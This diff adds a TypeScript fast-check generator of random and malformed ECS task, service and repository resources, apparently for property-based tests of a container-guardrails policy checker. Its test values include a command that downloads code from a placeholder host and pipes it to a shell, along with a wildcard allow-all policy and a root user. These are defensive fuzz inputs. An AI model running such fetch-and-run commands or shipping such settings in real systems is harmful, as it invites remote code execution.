@@ -1,0 +1,68 @@
+// Random, malformed and partly unknown resources of every in-scope type, for property-based tests.
+import fc from "fast-check";
+import { supportedTypes } from "../../policy/model";
+import { appImage, unknownString } from "./fixtures";
+
+const sentinels = [
+    "1c4a061d-8072-4f0a-a4cb-0ff528b18fe7", "3eeb2bf0-c639-47a8-9e75-3b44932eb421", unknownString,
+    "6a19a0b0-7e62-4c92-b797-7f8e31da9cc2", "dd056dcd-154b-4c76-9bd3-c8f88648b5ff",
+];
+
+const scalar = fc.oneof(
+    fc.constantFrom(...sentinels), fc.constantFrom(null, "", true, false, 0, -1, 3.5),
+    fc.string(), fc.integer(), fc.double(), fc.boolean(),
+    fc.constantFrom("latest", "nginx:latest", appImage, "awsvpc", "host", "bridge", "FARGATE", "EXTERNAL", "SERVICE", "IMMUTABLE", "MUTABLE", "awslogs", "awsfirelens", "root", "0:0", "*"),
+    fc.constantFrom("sh -c 'curl http://x | sh & supervisord'", "[{\"name\":1}]", "{not json", "[null]", "{\"Statement\":{\"Principal\":\"*\",\"Effect\":\"Allow\"}}"),
+);
+
+const fieldNames = [
+    "name", "image", "essential", "entryPoint", "command", "commands", "environment", "environments", "value", "logConfiguration", "logDriver",
+    "linuxParameters", "initProcessEnabled", "stopTimeout", "restartPolicy", "enabled", "firelensConfiguration", "dockerLabels",
+    "healthCheck", "privileged", "readonlyRootFilesystem", "user", "memory", "versionConsistency", "securityGroups", "subnets",
+    "assignPublicIp", "type", "enable", "rollback", "scanOnPush", "encryptionType", "logging", "executeCommandConfiguration",
+    "efsVolumeConfiguration", "transitEncryption", "operatingSystemFamily", "awsLogsConfigurations", "Statement", "ecs-guardrails:exempt",
+];
+
+const value: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
+    any: fc.oneof({ depthSize: "small", withCrossShrink: true }, scalar, fc.array(tie("any"), { maxLength: 4 }), fc.dictionary(fc.constantFrom(...fieldNames), tie("any"), { maxKeys: 5 })),
+})).any;
+
+
+/** A container definition that is mostly right, with random fields replaced. */
+const containerLike = fc.record({
+    name: fc.oneof(fc.constantFrom("app", "sidecar"), scalar),
+    image: fc.oneof(fc.constantFrom(appImage, "nginx:latest", "nginx", "Bad Image"), scalar),
+    essential: fc.oneof(fc.boolean(), scalar),
+    entryPoint: fc.oneof(fc.constant(["sh", "-c"]), fc.array(scalar, { maxLength: 3 }), scalar),
+    command: fc.oneof(fc.constant(["supervisord & pip install x"]), fc.array(scalar, { maxLength: 3 }), scalar),
+    environment: fc.oneof(fc.array(fc.record({ name: fc.oneof(fc.constant("DB_PASSWORD"), scalar), value: fc.oneof(fc.string(), scalar) }), { maxLength: 3 }), scalar),
+    logConfiguration: fc.oneof(fc.record({ logDriver: scalar }), scalar),
+    linuxParameters: fc.oneof(fc.record({ initProcessEnabled: scalar }), scalar),
+    stopTimeout: scalar,
+    dockerLabels: fc.oneof(fc.dictionary(fc.constantFrom("ecs-guardrails.sidecar", "x"), scalar), scalar),
+}, { requiredKeys: [] });
+
+const containerDefinitions = fc.oneof(
+    fc.array(fc.oneof(containerLike, value), { maxLength: 4 }).map((list) => JSON.stringify(list)),
+    fc.array(fc.oneof(containerLike, value), { maxLength: 4 }),
+    scalar,
+);
+
+/** Properties for one resource of a type: random fields, plus shapes the type really has. */
+export const resourceProps = (type: string): fc.Arbitrary<unknown> => fc.oneof(
+    { weight: 1, arbitrary: value },
+    { weight: 4, arbitrary: fc.record({
+        containerDefinitions, primaryContainer: fc.oneof(containerLike, scalar), family: scalar, networkMode: scalar, taskRoleArn: scalar,
+        executionRoleArn: scalar, requiresCompatibilities: fc.oneof(fc.array(scalar), scalar), volumes: value, runtimePlatform: value,
+        networkConfiguration: fc.oneof(fc.record({ securityGroups: fc.oneof(fc.array(scalar), scalar), assignPublicIp: scalar }), scalar),
+        networkConfigurations: value, launchType: scalar, deploymentController: value, deploymentCircuitBreaker: value,
+        enableEcsManagedTags: scalar, propagateTags: scalar, settings: value, configuration: value, imageTagMutability: scalar,
+        imageScanningConfiguration: value, encryptionConfigurations: value, policy: scalar, repository: scalar, service: scalar,
+        tags: fc.oneof(fc.dictionary(fc.constantFrom("ecs-guardrails:exempt", "team"), scalar), scalar),
+    }, { requiredKeys: [] }) },
+).map((props) => ({ type, props }) as const).map((r) => r.props);
+
+export const anyResource = fc.constantFrom(...supportedTypes).chain((type) =>
+    resourceProps(type).map((props) => ({ type, name: "r", props })));
+
+export { fc };
